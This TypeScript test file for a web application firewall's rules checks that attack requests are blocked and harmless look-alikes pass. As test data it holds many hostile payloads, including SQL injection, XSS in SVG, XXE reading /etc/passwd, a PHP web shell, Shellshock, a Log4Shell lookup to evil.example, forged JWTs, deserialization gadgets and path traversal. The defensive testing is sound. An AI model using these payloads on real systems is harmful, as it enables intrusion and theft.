import assert from 'node:assert/strict'
import { test } from 'node:test'
import { compileRules } from './compile.ts'
import { type CorpusCase, type CorpusPart, loadCorpus } from './test-corpus.ts'
import { countClasses } from './test-corpus-table.ts'
import { baseRuleSources, type Sent, send } from './test-requests.ts'

const rules = compileRules(baseRuleSources(), { paranoia: 1 })

const describe = ({ placement, text }: CorpusCase): string => `${placement}: ${text}`

for (const part of ['attacks', 'held-out/attacks'] as const) {
  test(`at least 95 % of the attacks of every class are refused: ${part}`, () => {
    for (const { class: name, requests, wrong } of countClasses(rules, part))
      assert.ok(
        wrong.length <= requests * 0.05,
        `${name}: ${wrong.length} of ${requests} pass:\n${wrong.map(describe).join('\n')}`,
      )
  })
}

for (const part of ['benign', 'held-out/benign'] as const) {
  test(`at most 0.2 % of what only looks like an attack is refused: ${part}`, () => {
    const counts = countClasses(rules, part)
    const requests = counts.reduce((sum, count) => sum + count.requests, 0)
    const wrong = counts.flatMap((count) => count.wrong)
    const why = wrong.map((one) => `${send(rules, one.sent).matches.map(({ ruleId }) => ruleId)} ${describe(one)}`)
    assert.ok(wrong.length <= requests * 0.002, `${wrong.length} of ${requests} refused:\n${why.join('\n')}`)
  })
}

test('the corpus is as large as it is said to be', () => {
  const size = (part: CorpusPart): number => new Set(loadCorpus(part).map(({ class: name, text }) => `${name} ${text}`)).size
  assert.ok(size('attacks') >= 2_000, `${size('attacks')} attacks`)
  assert.ok(size('benign') >= 5_000, `${size('benign')} honest texts`)
})

const LOOKUP = '$' + '{jndi:ldap://evil.example/a}'

test('attacks in cookies and headers are refused', () => {
  for (const [header, value] of [
    ['Cookie', "sid=1; id=1' OR 1=1--"],
    ['Cookie', `x=${LOOKUP}`],
    ['User-Agent', 'sqlmap/1.7'],
    ['User-Agent', '() { :; }; /bin/id'],
    ['X-Api-Version', LOOKUP],
    ['Referer', "https://a.example/' UNION SELECT 1,2--"],
  ] as const)
    assert.equal(send(rules, { headers: [[header, value]] }).blocked, true, `${header}: ${value}`)
})

test('uploads of programs are refused, of pictures not', () => {
  const upload = (name: string): boolean =>
    send(rules, {
      headers: [['Content-Type', 'multipart/form-data; boundary=B']],
      body: `--B\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--B--\r\n`,
    }).blocked
  for (const name of ['shell.php', 'shell.php5', 'x.jsp', 'x.PHTML', '../../x.sh', '.htaccess'])
    assert.equal(upload(name), true, name)
  for (const name of ['cat.png', 'my holiday (2).jpeg', 'report.final.pdf', "Ann's notes.txt"])
    assert.equal(upload(name), false, name)
})

const inForm = (name: string, type: string, content: string): Sent => ({
  headers: [['Content-Type', 'multipart/form-data; boundary=B']],
  body: Uint8Array.from(
    `--B\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--B--\r\n`,
    (char) => char.charCodeAt(0),
  ),
})
const PHP = '<?php system($_GET["c"]); ?>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'

test('what files hold is looked at, in forms and as whole bodies: programs, entities, scripts, paths', () => {
  for (const [name, type, content] of [
    ['a.png', 'image/png', `\x89PNG\r\n${PHP}`],
    ['a.gif', 'image/gif', 'GIF89a<?= `id` ?>'],
    ['a.txt', 'text/plain', PHP],
    ['b.cer', 'application/x-x509-ca-cert', '<%execute(request("z"))%>'],
    ['a.svg', 'image/svg+xml', `${SVG}<script>alert(1)</script></svg>`],
    ['a.svg', 'image/svg+xml', `<?xml version="1.0"?>\n${SVG}<rect onload="alert(1)"/></svg>`],
    ['a.svg', 'image/svg+xml', `${SVG}<a href="javascript:alert(1)"/></svg>`],
    ['a.gpx', 'application/gpx+xml', '<?xml version="1.0"?><!DOCTYPE g [<!ENTITY k SYSTEM "file:///etc/passwd">]><gpx>&k;</gpx>'],
    ['a.mvg', 'image/x-mvg', 'push graphic-context\nfill \'url(https://a.example/x.jpg"|ls "-la)\'\npop graphic-context\n'],
    ['a.eps', 'application/postscript', '%!PS\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops'],
    ['a.zip', 'application/zip', 'PK\x03\x04\x14\x00../../../../shell.php'],
    ['a.csv', 'text/csv', 'name,note\nAnn,"=cmd|\'/C calc\'!A0"\n'],
    [`${LOOKUP}.pdf`, 'application/pdf', '%PDF-1.4'],
    ['.user.ini', 'text/plain', 'auto_prepend_file=logo.gif'],
    ['pic.php::$DATA', 'image/png', 'x'],
    ['a.asp;.jpg', 'image/jpeg', 'x'],
  ] as const)
    assert.equal(send(rules, inForm(name, type, content)).blocked, true, `${name} ${content}`)
  for (const [type, content] of [
    ['image/png', `\x89PNG\r\n${PHP}`],
    ['application/octet-stream', '\xac\xed\x00\x05sr\x00\x11java.util.HashMap'],
    ['application/octet-stream', '\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94'],
  ] as const) {
    const body = Uint8Array.from(content, (char) => char.charCodeAt(0))
    assert.equal(send(rules, { headers: [['Content-Type', type]], body }).blocked, true, content)
  }
  for (const [name, type, content] of [
    ['a.png', 'image/png', '\x89PNG\r\n<?xpacket begin=""?><x:xmpmeta/><?xpacket end="w"?>'],
    [
      'a.svg',
      'image/svg+xml',
      `<?xml version="1.0"?>\n<!-- Generator -->\n${SVG}<path d="M0 0"/><style>.a{fill:red}</style></svg>`,
    ],
    [
      'a.svg',
      'image/svg+xml',
      `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns "http://www.w3.org/2000/svg">]>${SVG}</svg>`,
    ],
    ['site.zip', 'application/zip', 'PK\x03\x04\x14\x00wp-content/index.php<?php // Silence is golden.'],
    ['notes.md', 'text/markdown', '# Security\nNever write `eval($code)`; `<?php echo 1; ?>` is fine.'],
    ['prices.csv', 'text/csv', 'sku,price\n1,=A1*2\n2,-3\n'],
    ['server.cer', 'application/pkix-cert', '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n'],
    ['salt & cat.png', 'image/png', '\x89PNG'],
    ['page.html', 'text/html', '<!DOCTYPE html><html><body><script src="app.js"></script></body></html>'],
  ] as const) {
    const { blocked, matches } = send(rules, inForm(name, type, content))
    assert.equal(blocked, false, `${name} ${content} ${matches.map(({ ruleId }) => ruleId)}`)
  }
})

test('what is excepted beside an attack does not take the attack along: no decoy behind it, or before', () => {
  const base64 = (text: string): string => encodeURIComponent(Buffer.from(text).toString('base64'))
  for (const [attack, decoy] of [
    ['<script>alert(1)</script>', '<pre><script>alert(1)</script></pre>'],
    ["1' or pg_sleep(9)--", 'information_schema.tables is the view of all tables that a user may see'],
  ] as const) {
    const [first, second] = [encodeURIComponent(attack), encodeURIComponent(decoy)]
    for (const target of [`/?a=${first}`, `/?a=${first}&b=${second}`, `/?b=${second}&a=${first}`])
      assert.equal(send(rules, { target }).blocked, true, target)
  }
  const [hidden, fine] = [base64("1' UNION SELECT password FROM users--"), base64('hello world, all is fine here')]
  for (const target of [`/?a=${hidden}&b=${fine}`, `/?b=${fine}&a=${hidden}`])
    assert.equal(send(rules, { target }).blocked, true, target)
  const many = Array.from({ length: 900 }, (_, at) => `x${at}=${fine}`).join('&')
  assert.equal(
    send(rules, { headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `${many}&a=${hidden}` }).blocked,
    true,
  )
})

test('tokens and names in Base64 are read as what they say', () => {
  const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')
  const token = (header: object, payload: object = { sub: 'ann' }): string =>
    `Bearer ${part({ typ: 'JWT', ...header })}.${part(payload)}.c2lnbmF0dXJl`
  for (const value of [
    token({ alg: 'none' }),
    token({ alg: 'nOnE' }),
    token({ alg: 'HS256', kid: '../../dev/null' }),
    token({ alg: 'HS256', kid: "x' UNION SELECT 'k'-- " }),
    token({ alg: 'RS256', jku: 'http://169.254.169.254/keys' }),
    token({ alg: 'HS256' }, { sub: LOOKUP }),
    token({ alg: 'HS256' }, { sub: "admin' OR '1'='1" }),
    `${token({ alg: 'ES256' }).replace(/[^.]*$/, '')}MAYCAQACAQA`,
    `Basic ${Buffer.from(`${LOOKUP}:x`).toString('base64')}`,
    `Basic ${Buffer.from('*)(uid=*))(|(uid=*:x').toString('base64')}`,
  ])
    assert.equal(send(rules, { headers: [['Authorization', value]] }).blocked, true, value)
  for (const value of [
    token({ alg: 'RS256', kid: 'https://vault.example/keys/signing/1', jku: 'https://id.example/token_keys' }),
    token({ alg: 'ES256', kid: '2026-11' }, { name: "Conan O'Brien", groups: ['staff'], url: 'https://a.example/?a=1&b=2' }),
    `Basic ${Buffer.from("o'brien:pa'ss;wo#rd|x)(").toString('base64')}`,
    'Basic =',
    'Bearer eyJ',
  ])
    assert.equal(send(rules, { headers: [['Authorization', value]] }).blocked, false, value)
})

test('what projects write passes, and nothing passes behind it', () => {
  const form = (text: string): boolean =>
    send(rules, { headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `q=${encodeURIComponent(text)}` })
      .blocked
  for (const [honest, attack] of [
    ['<html>\n  <head>\n    <title>Tides</title>', 'x\n<head /etc/passwd'],
    ['</alias>\n  <alias binding="same">', ';<a>;cat /etc/passwd'],
    ['BUILD_HOST="$(hostname -s)"', 'x$(hostname -s)'],
    ['PORT=8080\nNAME=$\u007bNAME:-tides}\necho $NAME', 'a.png\necho $NAME>/tmp/x'],
    ['SELECT\n  id\nFROM tides', '7\nid'],
    ['#!/bin/sh\necho "tide" >> /var/lib/tides/log', '8.8.8.8\ncat /etc/passwd'],
    ['echo start\necho -n "."', 'PORT=1\ncat /etc/passwd'],
    ['```sh\nnode -r ./hook.ts main.ts\n```', '```\ncat /etc/passwd\n```'],
    ['用法如下:\n```bash\nnpm ci\n```', 'x;`id`'],
    ['`/bin/rm`을 사용해 대량의 파일을 지울 때', '`/bin/rm -rf /`'],
    ['"""\n  node = self.lookup[query]', '"\nnode -e x'],
    ['| tide | `sudo apt update && sudo apt upgrade` | once a week |', '|id|'],
    ['RequiresMountsFor=/var/log/tides', 'file=/var/log/auth.log'],
    ['LOG_DIR=/var/log/tides', 'LOG_DIR=/etc/shadow'],
    ["sed 's/\\(..\\)\\(..\\)\\(..\\)/\\3-\\2-\\1/'", '..\\..\\..\\windows\\win.ini'],
    ["TIDE_FLAGS=''", "x' or ''='"],
    ['export JAVA="$\u007bJAVA:-java}"', '$\u007bjava:version}'],
    ['`http://$\u007bhostname}:$\u007bport}/`', '$\u007bhostname}'],
    ['import (\n\t"os"\n\t"fmt"\n)', 'import("os")'],
    ['import java.lang.reflect.Method;', "''.class.forName('java.lang.reflect.Method')"],
    ['name.gsub(/%\\{(\\w+)\\}/) { |m| m }', '%{(#a=1)}'],
    ['"#{__dir__}/tides.yml"', '#{__import__}'],
    ['"#{self.class} #{name}"', '$\u007bself.module.cache}'],
    ['<?php if (isset($_GET["page"])) { show($page); }', '<?php $f($_GET["page"]);'],
    ['<%= link_to "Tides", { sort: "asc" } %>\n```', '<%= `id` %>'],
    ['{{range (index .items 0).addresses}}{{.}}{{end}}', '{{range(7)}}'],
    ['{{% include "/_common/tides.md" %}}', '{% include "/etc/passwd" %}'],
    ['os discos e partições de cada unidade', 'cos\nsystem\n(S"id"\ntR.'],
    ['err := f();\n\treturn 0;', "x'; return 0"],
    ['int n = 1;\nwhile (1) { n++; }', '1;while(1)'],
    ['tides = {"height": {"$lt": 30}}', '{"$where": "sleep(1)"}'],
    ['YAML.load_file("tides.yml")', "1 and load_file('/etc/hosts')"],
    ["DBMS_OUTPUT.PUT_LINE('tide');", "1 or dbms_pipe.receive_message('a',5)=1"],
    ['CREATE ROLE tide LOGIN;\nGRANT tide TO harbour;', "1'; GRANT tide TO public"],
    ['Look at information_schema.columns first.', "1' and (select 1 from information_schema.tables)=1"],
    ["how to stop injections such as ' OR '1'='1 by using prepared statements", "x' OR '1'='1"],
    ['<!DOCTYPE tides SYSTEM "tides.dtd">', '<!DOCTYPE tides SYSTEM "http://203.0.113.9/tides.dtd">'],
    ['<!DOCTYPE a SYSTEM "urn:tides:a.dtd">', '<!DOCTYPE a SYSTEM "a.dtd" [<!ENTITY x SYSTEM "file:///etc/hosts">]>'],
    [
      '<p xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd">',
      '<p xsi:schemaLocation="http://a.example/b http://maven.apache.org.attacker.example/x.xsd">',
    ],
    ['---\n\n<section class="tides">', 'x\r\n\r\n<html>'],
    ['wait_for:\n  host: "tides"', 'x\r\nSet-Cookie: a=b'],
    ['class NoTides < Base\n  LIMIT = 4\nend', '< script>alert(1)</script>'],
    ['the `<script>` tag of the page', '`<script>`;alert(1)//`'],
    ['<link rel="canonical" href="https://tides.example/today">', '<link rel="stylesheet" href="https://tides.example/a.css">'],
    ['<link rel="canonical" href="/x">', '<link rel="canonical" rel="stylesheet" href="//a.example/x">'],
    ['<meta http-equiv="refresh" content="30">', '<meta http-equiv="refresh" content="0;url=//a.example">'],
    ['<base href="/">', '<base href="//a.example/">'],
    ['<a href="javascript:window.print()">Print</a>', '<a href="javascript:window.open(name)">Print</a>'],
    ['<img src="cid:1" onload="">', '<img src="cid:1" onload=""onerror=alert(1)>'],
    ['`<img onerror=…>`', '<img src=x onerror=`…`;alert(1)>'],
    ['<script src="/js/tides.js" defer></script>', '<script src="/uploads/tides.js"></script>'],
    ['<script src="js/tides.js"></script>', '<script src="js/tides.js?callback=alert"></script>'],
    [
      '<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>',
      '<script async src="https://platform.twitter.com/widgets.js" onload="alert(1)"></script>',
    ],
  ] as const) {
    assert.equal(form(honest), false, honest)
    assert.equal(form(attack), true, attack)
  }
})

test('a body that is not what its type says is refused', () => {
  for (const [type, body] of [
    ['application/json', '{"a":'],
    ['multipart/form-data', 'x=1'],
    ['multipart/form-data; boundary=a; boundary=b', '--a\r\n'],
  ] as const)
    assert.equal(send(rules, { headers: [['Content-Type', type]], body }).blocked, true, type)
})

test('arguments with operators and prototypes in their names are refused', () => {
  for (const target of ['/login?user[$ne]=1', '/x?__proto__[admin]=1', '/x?constructor[prototype][a]=1', '/x?a.$where=1'])
    assert.equal(send(rules, { target }).blocked, true, target)
})

const SQL = "1' UNION SELECT password FROM users-- "

test('an attack is found in whatever body it hides', () => {
  const json = JSON.stringify({ q: SQL })
  const part = (head: string): string => `--B\r\nContent-Disposition: form-data; ${head}\r\n\r\n${SQL}\r\n--B--\r\n`
  for (const [type, body] of [
    ['text/plain', SQL],
    ['text/xml', `<a><b>${SQL}</b></a>`],
    ['application/xml', `<a b="${SQL}"/>`],
    ['image/png', json],
    ['application/octet-stream', json],
    ['text/plain', `${json} x`],
    ['application/x-www-form-urlencoded', '{"q":"; cat /etc/passwd"}'],
    ['application/json', `\ufeff${json}`],
    ['application/json; charset=utf-7', '{}'],
    ['application/json; charset = utf-16', '{}'],
    ['multipart/form-data; boundary=B', part('x="; filename=f"; name="q"')],
    ['multipart/form-data; boundary=B', part('name="q"; filename=""')],
    ['multipart/form-data; boundary=B', `x\n--B\r\nContent-Disposition: form-data; name="q"\r\n\r\n${SQL}\r\n--B--`],
    ["multipart/form-data; boundary=A; boundary*=utf-8''B", part('name="q"')],
  ] as const)
    assert.equal(send(rules, { headers: [['Content-Type', type]], body }).blocked, true, `${type}: ${body}`)
  for (const coding of ['gzip', 'deflate', 'br', 'identity, gzip'])
    assert.equal(send(rules, { headers: [['Content-Encoding', coding]], body: 'x' }).blocked, true, coding)
})

test('padding hides nothing', () => {
  const form = (text: string): boolean =>
    send(rules, { headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `q=${encodeURIComponent(text)}` })
      .blocked
  assert.equal(form(`${'A'.repeat(16_400)}' UNION SELECT password FROM users-- `), true)
  assert.equal(form(`${'A'.repeat(40_000)}<svg onload=alert(1)>`), true)
  assert.equal(form(`${'<b>'.repeat(1_200)}<svg onload=alert(1)>`), true)
  assert.equal(form(`<a ${'x=1 '.repeat(1_200)} onclick=alert(1)>`), true)
})

test('honest bodies pass: pictures, long lists of numbers, blank and marked JSON, transfer encodings that say nothing', () => {
  let state = 1
  const bytes = Uint8Array.from({ length: 100_000 }, () => {
    state = (Math.imul(state ^ (state >>> 15), 0x85ebca6b) + 0x9e3779b9) | 0
    return state >>> 13
  })
  const points = JSON.stringify({ points: Array.from({ length: 2_000 }, (_, x) => ({ x, y: -x / 3, on: true, z: null })) })
  for (const [type, body] of [
    ['image/jpeg', bytes],
    ['application/octet-stream', bytes],
    ['application/json', points],
    ['application/json', ''],
    ['application/json', ' \n'],
    ['application/json; charset=UTF-8', '\ufeff{"a":"b"}'],
    ['application/x-www-form-urlencoded; charset="iso-8859-1"', 'a=b'],
    [
      'multipart/form-data; boundary=B',
      '--B\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: binary\r\n\r\nx\r\n--B--',
    ],
  ] as const)
    assert.deepEqual(send(rules, { headers: [['Content-Type', type]], body }).matches, [], type)
})
